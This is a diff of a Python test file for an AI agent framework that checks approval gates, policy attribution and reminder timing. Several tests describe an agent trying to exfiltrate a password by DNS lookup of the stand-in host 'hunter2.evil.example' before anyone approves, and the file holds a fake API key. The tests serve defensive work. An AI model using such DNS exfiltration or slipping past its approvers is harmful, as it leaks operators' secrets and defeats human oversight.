@@ -1,12 +1,17 @@
-"""Getting round the people who approve, and getting at the operator's secrets: through the whole loop, on doubles."""
+"""Getting round the people who approve: by secrets, by names that are looked up, by policies and by the clock."""
 
 import base64
 import json
 import logging
+from collections.abc import Mapping
 from dataclasses import replace
+from datetime import UTC, datetime, time, timedelta
 from pathlib import Path
+from typing import cast
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from pydantic import BaseModel
 
 from adapters.screens.cards import turn_card
@@ -14,23 +19,33 @@ from agent_core.capabilities.agents.finish import FINISH_COMMANDS
 from agent_core.capabilities.files.commands import FILE_COMMANDS
 from agent_core.capabilities.files.folder_workspace import FolderWorkspaces
 from agent_core.capabilities.models.token_estimates import Estimates
-from agent_core.errors import AlreadyDecided, CommandError, NotAllowed
+from agent_core.capabilities.web.downloads import DownloadCommands
+from agent_core.capabilities.web.gateway_web import GatewayWeb
+from agent_core.capabilities.web.git_clone import GitCloner
+from agent_core.capabilities.web.pages import PageCommands
+from agent_core.errors import AlreadyDecided, CommandError, InvalidInput, NotAllowed
 from agent_core.loop.command_runner import Extensions, NextHook
 from agent_core.model.agent import Agent
+from agent_core.model.channel_settings import FIRST_REMINDER, QuietHours, ReminderSettings
 from agent_core.model.command import CommandCall, Failed, Result
-from agent_core.model.decision import Approve, ApproveEdited
+from agent_core.model.decision import Approve, ApproveEdited, Policy, PolicyChange, Reject
 from agent_core.model.origin import ActorKind
 from agent_core.oversight.secrets import Secrets
 from agent_core.prompt.model_client import MeteredModel
-from agent_core.testing.examples import BEN
+from agent_core.providers.egress.gateway import EgressGateway
+from agent_core.testing.examples import ANA, BEN
 from agent_core.testing.files import InMemoryWorkspaces
 from agent_core.testing.language_model import ScriptedModel, reply_text
 from agent_core.testing.stage import Stage
+from agent_core.testing.surface import RecordingSurface
 from agent_core.toolset.redaction import redact_output
 from agent_core.toolset.registry import CommandContext, Commands, declare
 from bot.logs import Redacting
 from tests.attacks.rows import attack
+from tests.standins.site import Names
+from tests.unit.agent_core.toolset.test_every_command import everything
 
+# Getting round the people who approve, and getting at the operator's secrets: through the whole loop, on doubles
 KEY = "sk-proj-0123456789abcdefghij"
 SECRETS = Secrets.of([KEY])
 WRITE = reply_text("write_to_file", {"filename": "a.txt", "text": "one\n"})
@@ -253,3 +268,171 @@ async def test_a_file_that_changed_at_the_last_moment_is_left_alone(name: str, a
         assert isinstance(result, Failed)
         assert "a.txt changed after this was approved" in result.error
         assert await workspaces.of(agent).read("a.txt") == b"somebody else's\n", answer
+
+
+# Carrying data out before anybody has decided: a name that is looked up tells its own server what it says
+URL = "https://hunter2.evil.example/"
+
+
+def web_of(names: Names) -> GatewayWeb:
+    door = EgressGateway(resolve=names)
+    return GatewayWeb(gateway=door, clones=GitCloner(gateway=door))
+
+
+def browsing_stage(names: Names, *replies: str) -> Stage:
+    stage = Stage(model=ScriptedModel(*replies))
+    web = web_of(names)
+    pages = PageCommands(web, stage.metered_model, stage.database).commands
+    for command in (*pages, *DownloadCommands(web, stage.database).commands):
+        stage.commands.register(command)
+    return stage
+
+
+@pytest.mark.proves("approve:nothing-leaves")
+@attack(
+    "approval",
+    "Exfiltration by DNS: a password in a host name",
+    "resolved only after an approval",
+)
+async def test_no_name_is_looked_up_before_a_decision(answer: str) -> None:
+    names = Names()
+    stage = browsing_stage(
+        names, reply_text("get_hyperlinks", {"url": URL}), reply_text("get_hyperlinks", {"url": URL})
+    )
+    agent = await stage.create()
+    assert (names.asked, (await stage.turn(agent)).state) == ([], "proposed")
+    await stage.decide(agent, Reject("No."))
+    await stage.wait_until_settled(agent)
+    assert names.asked == []
+    await stage.decide(agent, Approve())
+    await stage.wait_until_settled(agent)
+    assert names.asked == ["hunter2.evil.example"], answer
+
+
+@attack(
+    "approval",
+    "Exfiltration by DNS: nonexistent names whose errors people do not see",
+    "each name is a card, and each error a result",
+)
+async def test_a_name_that_there_is_not_is_told_as_a_result(answer: str) -> None:
+    names = Names()
+    stage = browsing_stage(names, reply_text("get_hyperlinks", {"url": URL}), reply_text("do_nothing"))
+    agent = await stage.create()
+    asked = await stage.turn(agent)
+    assert asked.state == "proposed"
+    await stage.decide(agent, Approve())
+    await stage.wait_until_settled(agent)
+    result = stage.shown.cards[asked.id].result
+    assert isinstance(result, Failed)
+    assert "There is no host hunter2.evil.example" in result.error, answer
+
+
+async def test_no_preview_of_any_command_looks_a_name_up() -> None:
+    names = Names()
+    commands, context = await everything(web_of(names))
+    previewed: set[str] = set()
+    for command in commands.by_name.values():
+        properties = cast("Mapping[str, Mapping[str, object]]", command.spec.parameters["properties"])
+        kinds = {name: schema.get("type", "string") for name, schema in properties.items()}
+        for text in (URL, "a.txt", "a new one", "a.mp3"):
+            values: dict[object, object] = {"integer": 1, "array": [text], "string": text}
+            try:
+                await command.preview({name: values.get(kind, text) for name, kind in kinds.items()}, context)
+                previewed.add(command.spec.name)
+            except CommandError:
+                continue
+        if "url" in properties:
+            address = {name: URL if name == "url" else "new" for name in properties}
+            assert await command.preview(address, context)
+            previewed.add(command.spec.name)
+    assert names.asked == []
+    assert {each.name for each in commands.specs if "network" in each.risks} <= previewed
+
+
+async def test_what_is_refused_as_it_is_written_is_told_before_anybody_is_asked() -> None:
+    names = Names()
+    for url in ("http://127.0.0.1/", "http://me:secret@example.org/", "ftp://example.org/", "http://intranet/"):
+        stage = browsing_stage(
+            names, reply_text("get_hyperlinks", {"url": url}), reply_text("get_hyperlinks", {"url": URL})
+        )
+        turn = await stage.turn(await stage.create())
+        assert turn.call.arguments["url"] == URL
+    assert names.asked == []
+
+
+# Attacks on who answers for a class that runs without asking
+
+
+def writing(number: int) -> str:
+    return reply_text("write_to_file", {"filename": f"{number}.txt", "text": "one"})
+
+
+@pytest.mark.proves("policy:chooser")
+@pytest.mark.parametrize(
+    "change",
+    [PolicyChange.between(Policy(), Policy(free=("network",))), PolicyChange(free=("network",))],
+    ids=["form", "line"],
+)
+async def test_a_change_that_never_showed_a_class_does_not_take_over_who_chose_it(change: PolicyChange) -> None:
+    """Ben frees write. Ana's form, opened before, or her line, frees network only. Ben leaves: write asks again."""
+    surface = RecordingSurface()
+    stage = Stage(model=ScriptedModel(writing(1), writing(2)), surface=surface)
+    agent = await stage.create()
+    await stage.agent_settings.set_policy(agent.id, PolicyChange(free=("write",)), stage.origin(BEN))
+    with pytest.raises(InvalidInput, match="as @ben chose: write"):
+        await stage.agent_settings.set_policy(agent.id, change, stage.origin())
+    surface.people[BEN.id] = replace(BEN, kind="guest")
+    await stage.decide(agent, Approve())
+    agent = await stage.wait_until_settled(agent)
+    second = await stage.turn(agent)
+    assert (second.state, [approval.by.display for approval in second.approvals]) == ("proposed", [])
+
+
+@pytest.mark.proves("policy:chooser")
+async def test_who_only_tightens_a_policy_is_not_named_as_who_chose_the_rest() -> None:
+    stage = Stage(model=ScriptedModel(writing(1)))
+    agent = await stage.create()
+    await stage.agent_settings.set_policy(agent.id, PolicyChange(free=("read", "write")), stage.origin(BEN))
+    agent = await stage.agent_settings.set_policy(agent.id, PolicyChange(asked=("read",)), stage.origin())
+    assert (agent.policy.free, agent.free_chooser) == (("write",), BEN)
+
+
+@pytest.mark.proves("policy:chooser")
+@pytest.mark.parametrize(
+    "change",
+    [PolicyChange(free=("network",), confirmed=("write",)), PolicyChange(free=("network", "write"))],
+    ids=["form", "line"],
+)
+async def test_who_sets_a_class_free_and_was_shown_the_others_answers_for_all(change: PolicyChange) -> None:
+    stage = Stage(model=ScriptedModel(writing(1)))
+    agent = await stage.create()
+    await stage.agent_settings.set_policy(agent.id, PolicyChange(free=("write",)), stage.origin(BEN))
+    agent = await stage.agent_settings.set_policy(agent.id, change, stage.origin())
+    assert (agent.policy.free, agent.free_chooser) == (("write", "network"), ANA)
+
+
+# Quiet hours that end within the hour that a clock shows twice, when summer time ends
+CHANGES = [datetime(2026, 3, 28, 18, tzinfo=UTC), datetime(2026, 10, 24, 18, tzinfo=UTC)]  # before each, in Berlin
+QUARTERS = st.integers(0, 95).map(lambda number: time(number // 4, number % 4 * 15))
+
+
+@pytest.mark.proves("attention:reminders")
+def test_a_reminder_is_not_due_before_its_time_when_summer_time_ends() -> None:
+    """The wait begins at 02:10 by the second round of the clock in Berlin. It is quiet until 02:30."""
+    settings = ReminderSettings(quiet=QuietHours(begins=time(18), ends=time(2, 30)), zone="Europe/Berlin")
+    since = datetime(2026, 10, 25, 1, 10, tzinfo=UTC)
+    due = settings.due_at(since, 0)
+    assert due is not None
+    assert (due >= since + FIRST_REMINDER, due - since) == (True, timedelta(minutes=20))
+
+
+@pytest.mark.slow
+@given(st.sampled_from(CHANGES), st.integers(0, 900), QUARTERS, QUARTERS, st.booleans())
+def test_no_reminder_is_due_before_its_time(
+    change: datetime, minutes: int, begins: time, ends: time, is_on: bool
+) -> None:
+    quiet = QuietHours(begins=begins, ends=ends)
+    since = change + timedelta(minutes=minutes)
+    due = ReminderSettings(quiet=quiet, weekends=is_on, zone="Europe/Berlin").due_at(since, 0)
+    assert due is not None
+    assert due >= since + FIRST_REMINDER
